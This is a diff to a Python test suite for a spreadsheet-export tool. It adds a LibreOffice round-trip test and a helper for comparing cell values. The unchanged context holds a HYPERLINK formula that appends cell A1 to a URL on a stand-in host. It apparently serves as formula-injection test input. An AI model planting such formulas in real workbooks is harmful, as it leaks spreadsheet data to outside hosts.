@@ -19,6 +19,7 @@ from evidence_desk.domain.layouts import NumberStyle
 from evidence_desk.exports.cells import excel_date, put
 from evidence_desk.exports.workbook import write_workbook
 from exports.dossiers import ARABIC, JOURNAL_HASH, concordance, dossier, exhibit
+from office import converted, needs_calc
 
 FORMULAS = (
     '=HYPERLINK("http://example.org/?"&A1,"x")',
@@ -59,6 +60,28 @@ def test_each_view_has_its_sheet_frozen_and_filtered(
         assert sheet.auto_filter.ref == sheet.dimensions
         assert sheet.print_title_rows
     assert book["Exhibits" if language == "en" else "Pièces"].max_row == 10
+
+
+@needs_calc
+@pytest.mark.parametrize("language", ["en", "fr"])
+def test_libreoffice_opens_it_and_saves_the_same(tmp_path: Path, language: str) -> None:
+    out = tmp_path / "annex.xlsx"
+    write_workbook(dossier(9, language, concordance=concordance(9)), out)
+    opened = tmp_path / "opened"
+    opened.mkdir()
+    again = _read(converted("xlsx", opened, [out])[0])
+    book = _read(out)
+    assert again.sheetnames == book.sheetnames
+    for sheet in book.worksheets:
+        assert _values(again[sheet.title]) == _values(sheet)
+        assert len(again[sheet.title]._images) == len(sheet._images)
+
+
+def _values(sheet: Worksheet) -> list[list[object]]:
+    """Every row that says anything, without empty cells behind it."""
+    rows = [["" if one is None else one for one in row] for row in sheet.values]
+    return [row[: len(row) - next(i for i, one in enumerate(row[::-1]) if one != "")]
+            for row in rows if any(one != "" for one in row)]  # fmt: skip
 
 
 def test_dates_are_dates_only_where_the_day_is_known(tmp_path: Path) -> None:
